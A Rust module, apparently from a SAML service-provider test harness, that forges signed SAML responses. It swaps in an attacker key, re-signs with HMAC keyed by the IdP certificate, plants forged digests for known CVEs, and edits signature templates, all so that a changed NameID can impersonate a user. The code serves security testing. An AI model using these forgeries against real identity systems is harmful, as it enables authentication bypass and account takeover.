//! Attacks on the XML signature itself (attacks.md section A, S-11 and on):
//! what a fault does to a signed response that needs keys or a parser, so
//! `faults.rs` keeps to text edits.
//!
//! Each function takes the response as signed and returns the forged text.
//! None of them does IO; keys arrive as credentials.

use std::ops::Range;

use aws_lc_rs::hmac;
use aws_lc_rs::signature::{KeyPair, RsaKeyPair};
use base64::Engine;
use base64::engine::general_purpose::STANDARD as BASE64;
use libxml::parser::Parser;
use libxml::tree::c14n::{CanonicalizationMode, CanonicalizationOptions};

use super::faults::SamlFaultError;
use super::xml::element_span;
use crate::keys::{SigningCredential, pem_body};

/// The attacker's RSA public key as `ds:KeyValue/ds:RSAKeyValue`
/// (XMLDSig 4.5.2.2: Modulus and Exponent as base64 CryptoBinary, big-endian
/// without leading zero octets).
pub fn rsa_key_value(credential: &SigningCredential) -> Result<String, SamlFaultError> {
    let der = pem_body(&credential.key_pem).ok_or(SamlFaultError::Key("the attacker's key is not PEM"))?;
    let pair = RsaKeyPair::from_pkcs8(&der).map_err(|_| SamlFaultError::Key("the attacker's key is not RSA"))?;
    let components = aws_lc_rs::rsa::PublicKeyComponents::<Vec<u8>>::from(pair.public_key());
    let crypto_binary = |bytes: &[u8]| {
        let start = bytes.iter().position(|b| *b != 0).unwrap_or(bytes.len().saturating_sub(1));
        BASE64.encode(&bytes[start..])
    };
    Ok(format!(
        "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>",
        crypto_binary(&components.n),
        crypto_binary(&components.e)
    ))
}

/// S-11 in its KeyValue form: every `ds:KeyInfo` of the signature templates
/// carries the attacker's key as an `RSAKeyValue` and no certificate. It is
/// applied before signing: an element's own KeyInfo is outside its digest
/// (the enveloped-signature transform removes the whole Signature), but the
/// Response signature covers the Assertion's KeyInfo.
pub fn key_info_as_key_value(signed: &str, credential: &SigningCredential) -> Result<String, SamlFaultError> {
    let key_value = rsa_key_value(credential)?;
    let mut out = String::with_capacity(signed.len());
    let mut rest = signed;
    let mut replaced = 0;
    while let Some(start) = rest.find("<ds:X509Data>") {
        let end = rest[start..].find("</ds:X509Data>").ok_or(SamlFaultError::Shape("X509Data end"))?
            + start
            + "</ds:X509Data>".len();
        out.push_str(&rest[..start]);
        out.push_str(&key_value);
        rest = &rest[end..];
        replaced += 1;
    }
    out.push_str(rest);
    if replaced == 0 {
        return Err(SamlFaultError::Shape("KeyInfo"));
    }
    Ok(out)
}

/// The `SignatureMethod` of S-12: HMAC-SHA256. The row names hmac-sha1; the
/// SHA-256 form is used so that an SP refusing it can only be refusing HMAC,
/// not SHA-1 (and libraries that take one take both).
pub const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";

/// Which of a response's enveloped signatures.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SignatureOf {
    Response,
    Assertion,
}

/// The byte range of one signature in Okta's serialisation: the Response's
/// comes right after its Issuer, before the Assertion; the Assertion's is
/// the first inside the Assertion.
fn signature_span(xml: &str, which: SignatureOf) -> Result<Range<usize>, SamlFaultError> {
    let assertion = xml.find("<saml2:Assertion ");
    let from = match which {
        SignatureOf::Response => 0,
        SignatureOf::Assertion => assertion.ok_or(SamlFaultError::Shape("Assertion"))?,
    };
    let span =
        element_span(xml, "<ds:Signature ", "</ds:Signature>", from).ok_or(SamlFaultError::Shape("Signature"))?;
    if which == SignatureOf::Response && assertion.is_some_and(|at| span.start > at) {
        return Err(SamlFaultError::Shape("Response Signature"));
    }
    Ok(span)
}

/// The key bytes of S-12, as CVE-2018-7644 used them: the IdP's certificate
/// from metadata as PEM text, the way an SP that loads "the IdP's key" from
/// its certificate holds it: `-----BEGIN CERTIFICATE-----`, a line feed, the
/// base64 DER in lines of 64 characters each ended by a line feed, then
/// `-----END CERTIFICATE-----` and a final line feed (OpenSSL's PEM form).
pub fn certificate_pem_key(credential: &SigningCredential) -> Vec<u8> {
    let flat = BASE64.encode(&credential.cert_der);
    let mut pem = String::from("-----BEGIN CERTIFICATE-----\n");
    for chunk in flat.as_bytes().chunks(64) {
        pem.push_str(&String::from_utf8_lossy(chunk));
        pem.push('\n');
    }
    pem.push_str("-----END CERTIFICATE-----\n");
    pem.into_bytes()
}

/// S-12: one signature made again as HMAC-SHA256 keyed by `key`. Its
/// DigestValue (already computed over the element) is kept; SignatureMethod
/// becomes HMAC-SHA256 and SignatureValue the HMAC of the exclusive
/// canonical form of the new SignedInfo. Signing the Assertion's before the
/// Response is signed keeps the Response's digest over it true.
pub fn resign_with_hmac(signed: &str, which: SignatureOf, key: &[u8]) -> Result<String, SamlFaultError> {
    let span = signature_span(signed, which)?;
    let signature = &signed[span.clone()];
    let method_start =
        signature.find("<ds:SignatureMethod Algorithm=\"").ok_or(SamlFaultError::Shape("SignatureMethod"))?
            + "<ds:SignatureMethod Algorithm=\"".len();
    let method_end =
        method_start + signature[method_start..].find('"').ok_or(SamlFaultError::Shape("SignatureMethod"))?;
    let signature = format!("{}{HMAC_SHA256}{}", &signature[..method_start], &signature[method_end..]);
    let text = format!("{}{}{}", &signed[..span.start], signature, &signed[span.end..]);

    let document = Parser::default().parse_string(&text).map_err(|e| SamlFaultError::Parse(format!("{e:?}")))?;
    let root = document.get_root_element().ok_or(SamlFaultError::Shape("root element"))?;
    let xpath = match which {
        SignatureOf::Response => "./*[local-name()='Signature']/*[local-name()='SignedInfo']",
        SignatureOf::Assertion => {
            "./*[local-name()='Assertion']/*[local-name()='Signature']/*[local-name()='SignedInfo']"
        }
    };
    let mut signed_info = root
        .findnodes(xpath)
        .ok()
        .and_then(|found| found.into_iter().next())
        .ok_or(SamlFaultError::Shape("SignedInfo"))?;
    let canonical = signed_info
        .canonicalize(CanonicalizationOptions {
            mode: CanonicalizationMode::ExclusiveCanonical1_0,
            with_comments: false,
            inclusive_ns_prefixes: Vec::new(),
        })
        .map_err(|()| SamlFaultError::Parse("SignedInfo cannot be canonicalised".into()))?;
    let mac = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), canonical.as_bytes());
    let value = BASE64.encode(mac.as_ref());

    let span = signature_span(&text, which)?;
    let signature = &text[span.clone()];
    let open = "<ds:SignatureValue>";
    let value_start = signature.find(open).ok_or(SamlFaultError::Shape("SignatureValue"))? + open.len();
    let value_end = value_start
        + signature[value_start..].find("</ds:SignatureValue>").ok_or(SamlFaultError::Shape("SignatureValue"))?;
    Ok(format!(
        "{}{}{value}{}{}",
        &text[..span.start],
        &signature[..value_start],
        &signature[value_end..],
        &text[span.end..]
    ))
}

/// The byte range of one signature, or `None` when that part is not signed.
fn find_signature(xml: &str, which: SignatureOf) -> Option<Range<usize>> {
    signature_span(xml, which).ok()
}

/// The digest a correct verifier computes for the element that `which`
/// signs, as the text now stands: the Response or its Assertion, with its
/// own Signature removed (the enveloped-signature transform), in exclusive
/// canonical form keeping the `xs` prefix (Okta's `InclusiveNamespaces
/// PrefixList="xs"`, which every template the mock renders carries), hashed
/// with the Reference's DigestMethod.
pub fn reference_digest(xml: &str, which: SignatureOf) -> Result<String, SamlFaultError> {
    let span = signature_span(xml, which)?;
    let sha1 = xml[span].contains("<ds:DigestMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#sha1\"/>");
    let document = Parser::default().parse_string(xml).map_err(|e| SamlFaultError::Parse(format!("{e:?}")))?;
    let root = document.get_root_element().ok_or(SamlFaultError::Shape("root element"))?;
    let mut element = match which {
        SignatureOf::Response => root,
        SignatureOf::Assertion => root
            .findnodes("./*[local-name()='Assertion']")
            .ok()
            .and_then(|found| found.into_iter().next())
            .ok_or(SamlFaultError::Shape("Assertion"))?,
    };
    let own = element.findnodes("./*[local-name()='Signature']").map_err(|()| SamlFaultError::Shape("Signature"))?;
    for mut signature in own {
        signature.unlink_node();
    }
    let canonical = element
        .canonicalize(CanonicalizationOptions {
            mode: CanonicalizationMode::ExclusiveCanonical1_0,
            with_comments: false,
            inclusive_ns_prefixes: vec!["xs".to_owned()],
        })
        .map_err(|()| SamlFaultError::Parse("the signed element cannot be canonicalised".into()))?;
    let digest = if sha1 {
        aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA1_FOR_LEGACY_USE_ONLY, canonical.as_bytes())
    } else {
        aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, canonical.as_bytes())
    };
    Ok(BASE64.encode(digest.as_ref()))
}

/// How a digest forgery plants the digest of the edited element.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum DigestPlant {
    /// S-17: a comment before the genuine value inside the same
    /// DigestValue (CVE-2025-29775): the canonical SignedInfo drops the
    /// comment, so the SignatureValue still verifies, while a reader of
    /// DigestValue's first child node gets the comment.
    CommentInDigestValue,
    /// S-18: a second SignedInfo before the genuine one, whose Reference
    /// holds the forged digest (CVE-2025-29774).
    SecondSignedInfo,
    /// S-19: a DigestValue in the Response's `Extensions`, before every
    /// signature, with the Assertion's genuine one untouched
    /// (CVE-2024-45409).
    DigestValueInExtensions,
}

/// S-17 to S-19: the NameID of the genuinely signed response is changed to
/// `impersonate`, then the digest of each edited, signed element (the
/// Assertion's first, as the Response's covers it) is planted where a
/// careless verifier reads it. SignedInfo, and so every SignatureValue, is
/// left exactly as signed, except for the planted comment or copy, which
/// are not part of what the genuine signature covers.
pub fn plant_forged_digest(signed: &str, impersonate: &str, plant: DigestPlant) -> Result<String, SamlFaultError> {
    let span = element_span(signed, "<saml2:NameID ", "</saml2:NameID>", 0).ok_or(SamlFaultError::Shape("NameID"))?;
    let name_id = &signed[span.clone()];
    let open_end = name_id.find('>').ok_or(SamlFaultError::Shape("NameID"))? + 1;
    let mut text = format!(
        "{}{}{}</saml2:NameID>{}",
        &signed[..span.start],
        &name_id[..open_end],
        super::xml::escape(impersonate),
        &signed[span.end..]
    );
    for which in [SignatureOf::Assertion, SignatureOf::Response] {
        let Some(span) = find_signature(&text, which) else { continue };
        let digest = reference_digest(&text, which)?;
        let signature = &text[span.clone()];
        let planted = match plant {
            DigestPlant::CommentInDigestValue => {
                let open = "<ds:DigestValue>";
                let at = signature.find(open).ok_or(SamlFaultError::Shape("DigestValue"))? + open.len();
                format!("{}<!--{digest}-->{}", &signature[..at], &signature[at..])
            }
            DigestPlant::SecondSignedInfo => {
                let signed_info = element_span(signature, "<ds:SignedInfo>", "</ds:SignedInfo>", 0)
                    .ok_or(SamlFaultError::Shape("SignedInfo"))?;
                let original = &signature[signed_info.clone()];
                let value = element_span(original, "<ds:DigestValue>", "</ds:DigestValue>", 0)
                    .ok_or(SamlFaultError::Shape("DigestValue"))?;
                let forged = format!(
                    "{}<ds:DigestValue>{digest}</ds:DigestValue>{}",
                    &original[..value.start],
                    &original[value.end..]
                );
                format!("{}{forged}{}", &signature[..signed_info.start], &signature[signed_info.start..])
            }
            DigestPlant::DigestValueInExtensions => {
                if which == SignatureOf::Response {
                    return Err(SamlFaultError::Shape("an unsigned Response"));
                }
                let issuer_end = "</saml2:Issuer>";
                let at = text.find(issuer_end).ok_or(SamlFaultError::Shape("Response Issuer"))? + issuer_end.len();
                let extensions = format!(
                    "<saml2p:Extensions><ds:DigestValue xmlns:ds=\"{}\">{digest}</ds:DigestValue></saml2p:Extensions>",
                    super::response::NS_DSIG
                );
                text = format!("{}{extensions}{}", &text[..at], &text[at..]);
                continue;
            }
        };
        text = format!("{}{planted}{}", &text[..span.start], &text[span.end..]);
    }
    Ok(text)
}

/// The exclusive c14n transform as Okta's templates write it, and the
/// algorithm of its `#WithComments` form (S-27).
const EXCLUSIVE_TRANSFORM: &str = "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\">";
const EXCLUSIVE_WITH_COMMENTS: &str = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
const ENVELOPED_TRANSFORM: &str = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";
/// The XPath 1.0 filter transform (XMLDSig 6.6.3).
pub const XPATH_FILTER: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";

/// How a template edit (S-26, S-27) changes the Assertion's signature
/// before it is signed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TemplateEdit {
    /// S-26: the Reference's URI is `""`, the whole document.
    WholeDocumentReference,
    /// S-26: the Reference names the Response's ID.
    ResponseReference,
    /// S-27: the exclusive c14n transform becomes its `#WithComments`
    /// form, and an empty comment is put inside the NameID's text.
    WithComments,
    /// S-27: an XPath filter transform after the enveloped-signature one
    /// leaves the Subject out of the digest.
    XPathWithoutSubject,
}

/// Edits the unsigned template of the Assertion's Signature (and, for
/// `WithComments`, the NameID it covers) so that libxmlsec1 signs what the
/// edit asks for: these signatures are the IdP's own and verify, and only
/// their shape is wrong. Only the Assertion's template is touched; the
/// faults that use this sign nothing else.
pub fn edit_assertion_template(unsigned: &str, edit: TemplateEdit) -> Result<String, SamlFaultError> {
    let span = signature_span(unsigned, SignatureOf::Assertion)?;
    let signature = &unsigned[span.clone()];
    let edited = match edit {
        TemplateEdit::WholeDocumentReference | TemplateEdit::ResponseReference => {
            let open = "<ds:Reference URI=\"";
            let start = signature.find(open).ok_or(SamlFaultError::Shape("Reference"))? + open.len();
            let end = start + signature[start..].find('"').ok_or(SamlFaultError::Shape("Reference"))?;
            let uri = if edit == TemplateEdit::WholeDocumentReference {
                String::new()
            } else {
                format!("#{}", response_id(unsigned)?)
            };
            format!("{}{uri}{}", &signature[..start], &signature[end..])
        }
        TemplateEdit::WithComments => {
            if !signature.contains(EXCLUSIVE_TRANSFORM) {
                return Err(SamlFaultError::Shape("exclusive c14n Transform"));
            }
            signature.replacen(
                EXCLUSIVE_TRANSFORM,
                &format!("<ds:Transform Algorithm=\"{EXCLUSIVE_WITH_COMMENTS}\">"),
                1,
            )
        }
        TemplateEdit::XPathWithoutSubject => {
            if !signature.contains(ENVELOPED_TRANSFORM) {
                return Err(SamlFaultError::Shape("enveloped-signature Transform"));
            }
            let xpath = format!(
                "<ds:Transform Algorithm=\"{XPATH_FILTER}\"><ds:XPath xmlns:saml2=\"{}\">not(ancestor-or-self::saml2:Subject)</ds:XPath></ds:Transform>",
                super::response::NS_ASSERTION
            );
            signature.replacen(ENVELOPED_TRANSFORM, &format!("{ENVELOPED_TRANSFORM}{xpath}"), 1)
        }
    };
    let text = format!("{}{edited}{}", &unsigned[..span.start], &unsigned[span.end..]);
    if edit != TemplateEdit::WithComments {
        return Ok(text);
    }
    // The comment splits the NameID's text after its first character, so
    // the whole text (comments dropped) is still the genuine identity.
    let name_id = element_span(&text, "<saml2:NameID ", "</saml2:NameID>", 0).ok_or(SamlFaultError::Shape("NameID"))?;
    let open_end = text[name_id.clone()].find('>').ok_or(SamlFaultError::Shape("NameID"))? + name_id.start + 1;
    let first = text[open_end..].chars().next().filter(|c| *c != '<').ok_or(SamlFaultError::Shape("NameID text"))?;
    let at = open_end + first.len_utf8();
    Ok(format!("{}<!---->{}", &text[..at], &text[at..]))
}

/// The ID of the Response, from its start tag.
fn response_id(xml: &str) -> Result<String, SamlFaultError> {
    let start = xml.find("<saml2p:Response ").ok_or(SamlFaultError::Shape("Response"))?;
    let tag = &xml[start..start + xml[start..].find('>').ok_or(SamlFaultError::Shape("Response"))?];
    let id = tag.find(" ID=\"").ok_or(SamlFaultError::Shape("Response ID"))? + 5;
    let end = id + tag[id..].find('"').ok_or(SamlFaultError::Shape("Response ID"))?;
    Ok(tag[id..end].to_owned())
}
